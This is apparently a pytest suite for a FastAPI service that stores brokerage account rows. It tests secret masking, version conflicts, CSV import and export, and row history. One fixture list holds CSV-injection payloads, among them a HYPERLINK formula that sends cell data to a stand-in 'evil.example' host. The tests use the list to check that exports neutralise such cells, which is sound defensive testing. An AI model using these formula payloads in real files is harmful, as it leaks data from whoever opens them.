"""csv-accounts' shared table over HTTP: rows by index or id, validation, CSV export and
all-or-nothing import, versions and restore."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
import pytest
from fastapi import FastAPI

from tests.factories import admin_headers, user_with_token

ROW = {"broker": "ccxt:okx", "API_key": "okx-api-key-123456", "API_secret": "okx-secret-abcdef9",
       "pnl": 120.5, "margin": 1000, "max_risk": 2}  # fmt: skip


async def add(client: httpx.AsyncClient, headers: dict[str, str], **fields: Any) -> dict[str, Any]:
    """Add a row; return it."""
    response = await client.post("/api/add_csv", json={**ROW, **fields}, headers=headers)
    assert response.status_code == 201, response.text
    row: dict[str, Any] = response.json()
    return row


class TestTable:
    async def test_add_and_fetch_with_masked_secrets(self, client: httpx.AsyncClient) -> None:
        user, headers = await user_with_token(client)
        added = await add(client, headers)
        row = {"index": 0, "id": added["id"], "user": user["username"], "broker": "ccxt:okx",
               "API_key": "••••3456", "API_secret": "••••def9", "API key": "••••3456",
               "API secret": "••••def9", "pnl": 120.5, "margin": 1000.0, "max_risk": 2.0,
               "account_name": "ccxt:okx", "version": 1}  # fmt: skip
        assert added == {**row, "message": "Entry added successfully", "data": [row]}
        fetched = (await client.get("/api/fetch_csv", headers=headers)).json()
        assert fetched == [row]

    async def test_update_and_delete_by_index_or_id(self, client: httpx.AsyncClient) -> None:
        _, headers = await user_with_token(client)
        first = await add(client, headers)
        second = await add(client, headers, pnl=-3)
        changed = await client.put(
            "/api/update_csv/1", json={"pnl": 7.25, "API_secret": "••••def9"}, headers=headers
        )
        assert changed.status_code == 200
        assert (changed.json()["id"], changed.json()["pnl"]) == (second["id"], 7.25)
        assert changed.json()["API_secret"] == "••••def9"
        by_id = await client.put(
            f"/api/update_csv/{first['id']}?by=id", json={"max_risk": 4}, headers=headers
        )
        assert by_id.json()["max_risk"] == 4.0
        assert (await client.delete("/api/delete_csv/0", headers=headers)).status_code == 200
        rows = (await client.get("/api/fetch_csv", headers=headers)).json()
        assert [(r["index"], r["id"]) for r in rows] == [(0, second["id"])]
        assert (await client.delete("/api/delete_csv/5", headers=headers)).status_code == 404

    @pytest.mark.parametrize(
        "fields",
        [{"pnl": "a lot"}, {"max_risk": -1}, {"broker": "x" * 41}, {"margin": None}],
    )
    async def test_validation(self, client: httpx.AsyncClient, fields: dict[str, Any]) -> None:
        _, headers = await user_with_token(client)
        response = await client.post("/api/add_csv", json={**ROW, **fields}, headers=headers)
        assert response.status_code == 422

    async def test_rows_of_other_users(self, app: FastAPI, client: httpx.AsyncClient) -> None:
        alice, alice_h = await user_with_token(client)
        _, bob_h = await user_with_token(client)
        refused = await client.post(
            "/api/add_csv", json={**ROW, "user": alice["username"]}, headers=bob_h
        )
        assert refused.status_code == 403
        _, admin_h = await admin_headers(app, client)
        row = await add(client, admin_h, user=alice["username"])
        assert row["user"] == alice["username"]
        assert (await client.get("/api/fetch_csv", headers=bob_h)).json() == []
        assert len((await client.get("/api/fetch_csv", headers=alice_h)).json()) == 1
        assert (await client.put(
            f"/api/update_csv/{row['id']}?by=id", json={"pnl": 1}, headers=bob_h
        )).status_code == 404  # fmt: skip


#: What csv-accounts' frontend sends (Dashboard.js handleSaveNew): its header names, a broker
#: as typed, figures as parseFloat made them.
FRONTEND_NEW_ROW = {"user": "", "broker": "Zerodha", "API key": "kite-key-000011112222",
                    "API secret": "kite-secret-33334444", "pnl": 12.5, "margin": 0,
                    "max_risk": 0}  # fmt: skip


class TestSeedFrontend:
    """csv-accounts' own frontend, call by call: its bodies are replayed as it sends them."""

    async def test_a_new_row_as_the_frontend_sends_it(self, client: httpx.AsyncClient) -> None:
        user, headers = await user_with_token(client)
        response = await client.post("/api/add_csv", json=FRONTEND_NEW_ROW, headers=headers)
        assert response.status_code == 201, response.text
        added = response.json()
        # The frontend shows response.data.data as its table and reads row["API key"].
        assert [(r["user"], r["broker"], r["API key"], r["API secret"]) for r in added["data"]] == [
            (user["username"], "Zerodha", "••••2222", "••••4444")
        ]
        assert (added["API_key"], added["account_name"]) == ("••••2222", "Zerodha")

    async def test_a_fetched_row_is_saved_back_whole(self, client: httpx.AsyncClient) -> None:
        _, headers = await user_with_token(client)
        await client.post("/api/add_csv", json=FRONTEND_NEW_ROW, headers=headers)
        fetched = (await client.get("/api/fetch_csv", headers=headers)).json()[0]
        # Dashboard.js: editRow = {...row}; the inputs change "API key" and pnl; PUT editRow.
        edited = {**fetched, "API key": "new-kite-key-55556666", "pnl": -4.25}
        saved = await client.put("/api/update_csv/0", json=edited, headers=headers)
        assert saved.status_code == 200, saved.text
        assert saved.json()["message"] == "Entry updated successfully"
        row = (await client.get("/api/fetch_csv", headers=headers)).json()[0]
        assert (row["API key"], row["API_key"], row["API secret"], row["pnl"]) == (
            "••••6666", "••••6666", "••••4444", -4.25
        )  # fmt: skip
        assert (row["broker"], row["version"]) == ("Zerodha", 2)
        # The frontend keeps the row it sent (version 1) and saves it again: its own change
        # since is no conflict.
        again = await client.put("/api/update_csv/0", json={**edited, "pnl": 3}, headers=headers)
        assert again.status_code == 200, again.text
        assert again.json()["version"] == 3

    async def test_a_stale_version_is_409(self, app: FastAPI, client: httpx.AsyncClient) -> None:
        _, headers = await user_with_token(client)
        await client.post("/api/add_csv", json=FRONTEND_NEW_ROW, headers=headers)
        fetched = (await client.get("/api/fetch_csv", headers=headers)).json()[0]
        _, desk = await admin_headers(app, client)
        changed = await client.put(
            f"/api/update_csv/{fetched['id']}?by=id", json={"margin": 50}, headers=desk
        )
        assert changed.status_code == 200, changed.text
        for version in (fetched["version"], 9):
            stale = await client.put(
                "/api/update_csv/0", json={**fetched, "pnl": 1, "version": version}, headers=headers
            )
            assert stale.status_code == 409, stale.text
            body = stale.json()
            assert body["code"] == "VERSION_CONFLICT"
            assert isinstance(body["detail"], str) and "fetch it again" in body["detail"]
        row = (await client.get("/api/fetch_csv", headers=headers)).json()[0]
        assert (row["pnl"], row["margin"], row["version"]) == (12.5, 50.0, 2)
        fresh = await client.put("/api/update_csv/0", json={**row, "pnl": 1}, headers=headers)
        assert fresh.status_code == 200, fresh.text

    async def test_an_index_that_now_holds_another_row_is_409(
        self, client: httpx.AsyncClient
    ) -> None:
        _, headers = await user_with_token(client)
        await add(client, headers)
        await add(client, headers, pnl=7)
        first, second = (await client.get("/api/fetch_csv", headers=headers)).json()
        moved = await client.put("/api/update_csv/0", json={**second, "pnl": 1}, headers=headers)
        assert moved.status_code == 409
        assert moved.json()["code"] == "ROW_MOVED"
        rows = (await client.get("/api/fetch_csv", headers=headers)).json()
        assert [r["pnl"] for r in rows] == [first["pnl"], second["pnl"]]

    async def test_both_names_of_a_secret(self, client: httpx.AsyncClient) -> None:
        _, headers = await user_with_token(client)
        both = {"broker": "kite", "API_key": "one-key-000011112222", "API key": "two-key-3333"}
        refused = await client.post("/api/add_csv", json=both, headers=headers)
        assert refused.status_code == 422
        assert "'API_key' and 'API key' are one field" in refused.json()["message"]
        same = {**both, "API key": both["API_key"]}
        assert (await client.post("/api/add_csv", json=same, headers=headers)).status_code == 201

    @pytest.mark.parametrize(
        ("method", "path", "body"),
        [
            ("POST", "/api/add_csv", {"brokr": "paper", "pnl": 1}),
            ("PUT", "/api/update_csv/0", {"pnll": 1}),
            ("PUT", "/api/update_csv/0", {"index": 0, "id": 1, "version": 1}),
        ],
    )
    async def test_misspelt_fields_are_still_refused(
        self, client: httpx.AsyncClient, method: str, path: str, body: dict[str, Any]
    ) -> None:
        _, headers = await user_with_token(client)
        await add(client, headers)
        response = await client.request(method, path, json=body, headers=headers)
        assert response.status_code == 422, response.text
        assert (await client.get("/api/fetch_csv", headers=headers)).json()[0]["version"] == 1

    async def test_an_empty_broker_is_a_row_too(self, client: httpx.AsyncClient) -> None:
        _, headers = await user_with_token(client)
        body = {**FRONTEND_NEW_ROW, "broker": "", "API key": "", "API secret": ""}
        response = await client.post("/api/add_csv", json=body, headers=headers)
        assert response.status_code == 201, response.text
        assert (response.json()["broker"], response.json()["API key"]) == ("", "")

    async def test_a_free_text_broker_is_kept_and_cannot_connect(
        self, client: httpx.AsyncClient
    ) -> None:
        _, headers = await user_with_token(client)
        row = (await client.post("/api/add_csv", json=FRONTEND_NEW_ROW, headers=headers)).json()
        listed = (await client.get("/api/accounts", headers=headers)).json()["accounts"]
        assert [a["broker"] for a in listed] == ["Zerodha"]
        connect = await client.post(f"/api/accounts/{row['id']}/connect", headers=headers)
        assert connect.status_code == 200, connect.text
        assert (connect.json()["status"], connect.json()["success"]) == ("failed", False)
        assert "'Zerodha' names no adapter" in connect.json()["message"]

    async def test_a_file_with_the_seeds_header_imports(self, client: httpx.AsyncClient) -> None:
        _, headers = await user_with_token(client)
        text = (
            "user,broker,API key,API secret,pnl,margin,max_risk\n,Zerodha,key-000011112222,,1,2,3\n"
        )
        response = await client.post("/api/accounts/import", content=text, headers=headers)
        assert response.status_code == 201, response.text
        row = (await client.get("/api/fetch_csv", headers=headers)).json()[0]
        assert (row["broker"], row["API key"], row["API_secret"]) == ("Zerodha", "••••2222", "")

    async def test_the_openapi_document_shows_the_other_names(
        self, client: httpx.AsyncClient
    ) -> None:
        schemas = (await client.get("/openapi.json")).json()["components"]["schemas"]
        assert {"API key", "API secret", "API_key", "broker"} <= set(
            schemas["CsvEntry"]["properties"]
        )
        change = set(schemas["CsvChange"]["properties"])
        assert {"API key", "API secret", "index", "id", "version"} <= change
        shown = {name for name, s in schemas.items() if name.startswith("CsvRow")}
        for name in shown:
            assert {"API key", "API secret"} <= set(schemas[name]["properties"]), name


class TestCsvFiles:
    async def test_export_then_import(self, client: httpx.AsyncClient) -> None:
        _, headers = await user_with_token(client)
        await add(client, headers)
        exported = await client.get("/api/accounts/export.csv", headers=headers)
        assert exported.headers["content-type"].startswith("text/csv")
        lines = exported.text.splitlines()
        assert lines[0] == "user,broker,API_key,API_secret,pnl,margin,max_risk,account_name"
        assert "okx-api-key" not in exported.text
        _, other = await user_with_token(client)
        text = "broker,API_key,pnl,max_risk\npaper,,1.5,2\nkite,kite-key-00001111,0,1\n"
        imported = await client.post(
            "/api/accounts/import", content=text, headers={**other, "Content-Type": "text/csv"}
        )
        assert imported.status_code == 201, imported.text
        assert imported.json() == {"success": True, "imported": 2, "errors": []}
        rows = (await client.get("/api/fetch_csv", headers=other)).json()
        assert [(r["broker"], r["API_key"]) for r in rows] == [("paper", ""), ("kite", "••••1111")]

    async def test_one_bad_row_imports_nothing(self, client: httpx.AsyncClient) -> None:
        _, headers = await user_with_token(client)
        text = f"broker,pnl,max_risk\npaper,1,2\n{'n' * 41},x,-1\n"
        response = await client.post("/api/accounts/import", content=text, headers=headers)
        assert response.status_code == 422
        report = response.json()
        assert (report["success"], report["imported"]) == (False, 0)
        assert [e["row"] for e in report["errors"]] == [2]
        assert len(report["errors"][0]["errors"]) == 3
        assert (await client.get("/api/fetch_csv", headers=headers)).json() == []

    @pytest.mark.parametrize("text", ["broker,evil\npaper,1\n", "\r0", "broker\n\x00\n", ""])
    async def test_unknown_columns_and_broken_files_are_refused(
        self, client: httpx.AsyncClient, text: str
    ) -> None:
        _, headers = await user_with_token(client)
        response = await client.post("/api/accounts/import", content=text, headers=headers)
        assert response.status_code == 422
        assert response.json()["imported"] == 0


#: Text cells a spreadsheet would run as formulas (issue 13, item 4), and one that starts with
#: the quote the export adds (it must round-trip too).
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A9)",
            "\tcmd", "\r=1", "'=already quoted"]  # fmt: skip


class TestCsvInjection:
    async def test_the_desk_export_neutralises_formula_cells_and_keeps_numbers(
        self, app: FastAPI, client: httpx.AsyncClient
    ) -> None:
        _, alice = await user_with_token(client)
        for name in FORMULAS:
            await add(client, alice, account_name=name, pnl=-12.5)
        _, desk = await admin_headers(app, client)
        exported = await client.get("/api/accounts/export.csv", headers=desk)
        assert exported.status_code == 200
        rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
        assert [r["account_name"] for r in rows] == ["'" + name for name in FORMULAS]
        assert {r["pnl"] for r in rows} == {"-12.5"}
        lines = exported.text.splitlines()
        assert lines[1].startswith('"')  # text cells are quoted...
        assert ",-12.5,1000.0,2.0," in lines[1]  # ...numbers are bare numbers
        for line in exported.text.split("\n")[1:-1]:
            cells = next(csv.reader([line]))
            assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells[:4])

    async def test_an_exported_file_imports_back_to_the_same_rows(
        self, client: httpx.AsyncClient
    ) -> None:
        _, headers = await user_with_token(client)
        for name in [*FORMULAS, "plain", "-"]:
            await add(client, headers, account_name=name, pnl=-12.5, margin=-3)
        exported = (await client.get("/api/accounts/export.csv", headers=headers)).text
        imported = await client.post(
            "/api/accounts/import",
            content=exported,
            headers={**headers, "Content-Type": "text/csv"},
        )
        assert imported.status_code == 201, imported.text
        rows = (await client.get("/api/fetch_csv", headers=headers)).json()
        shown = [(r["account_name"], r["pnl"], r["margin"], r["broker"]) for r in rows]
        assert shown[9:] == shown[:9]
        assert [r["account_name"] for r in rows[:9]] == [*FORMULAS, "plain", "-"]


class TestMalformedImports:
    @pytest.mark.parametrize(
        ("text", "line", "reason"),
        [
            ('broker,account_name\npaper,"oops\npaper,b\n', 2, "unterminated quoted field"),
            ('broker,account_name\npaper,"a"b\npaper,c\n', 2, "',' expected after '\"'"),
            ("broker,pnl\npaper,1\npaper,1,2\n", 3, "3 cells where the header has 2"),
            ("broker,pnl\npaper,1\n\npaper\n", 4, "1 cell where the header has 2"),
            ("broker,pnl,broker\npaper,1,kite\n", 1, "column 'broker' appears twice"),
            ("broker,account_name\npaper,caf\xe9\n", 2, "not UTF-8"),
        ],
    )
    async def test_a_malformed_file_is_refused_whole_with_its_line(
        self, client: httpx.AsyncClient, text: str, line: int, reason: str
    ) -> None:
        _, headers = await user_with_token(client)
        body = text.encode("latin-1") if "\xe9" in text else text.encode()
        response = await client.post("/api/accounts/import", content=body, headers=headers)
        assert response.status_code == 422, response.text
        report = response.json()
        assert (report["success"], report["imported"]) == (False, 0)
        assert [e["line"] for e in report["errors"]] == [line]
        assert report["errors"][0]["errors"] == [f"line {line}: {reason}"]
        assert (await client.get("/api/fetch_csv", headers=headers)).json() == []

    async def test_a_spreadsheets_byte_order_mark_and_crlf_lines_are_fine(
        self, client: httpx.AsyncClient
    ) -> None:
        _, headers = await user_with_token(client)
        body = '\ufeffbroker,account_name\r\npaper,"two\r\nlines"\r\n'.encode()
        response = await client.post("/api/accounts/import", content=body, headers=headers)
        assert response.status_code == 201, response.text
        rows = (await client.get("/api/fetch_csv", headers=headers)).json()
        assert [r["account_name"] for r in rows] == ["two\r\nlines"]


class TestHistory:
    async def test_every_change_is_kept_and_a_deleted_row_restored(
        self, client: httpx.AsyncClient
    ) -> None:
        _, headers = await user_with_token(client)
        row = await add(client, headers)
        await client.put("/api/update_csv/0", json={"pnl": 99}, headers=headers)
        await client.delete("/api/delete_csv/0", headers=headers)
        history = (await client.get(f"/api/accounts/{row['id']}/history", headers=headers)).json()
        kept = history["versions"]
        assert [(v["version"], v["change"]) for v in kept] == [
            (1, "created"), (2, "updated"), (3, "deleted")
        ]  # fmt: skip
        assert kept[1]["row"]["pnl"] == "99"
        assert kept[0]["row"]["api_key"] == "••••3456"
        assert "okx-api-key" not in str(history)
        restored = await client.post(f"/api/accounts/{row['id']}/restore/1", headers=headers)
        assert restored.status_code == 200
        rows = (await client.get("/api/fetch_csv", headers=headers)).json()
        assert [(r["id"], r["pnl"], r["version"]) for r in rows] == [(row["id"], 120.5, 4)]
        missing = await client.post(f"/api/accounts/{row['id']}/restore/9", headers=headers)
        assert missing.status_code == 404

    async def test_another_users_history_is_404(self, client: httpx.AsyncClient) -> None:
        _, headers = await user_with_token(client)
        _, other = await user_with_token(client)
        row = await add(client, headers)
        response = await client.get(f"/api/accounts/{row['id']}/history", headers=other)
        assert response.status_code == 404
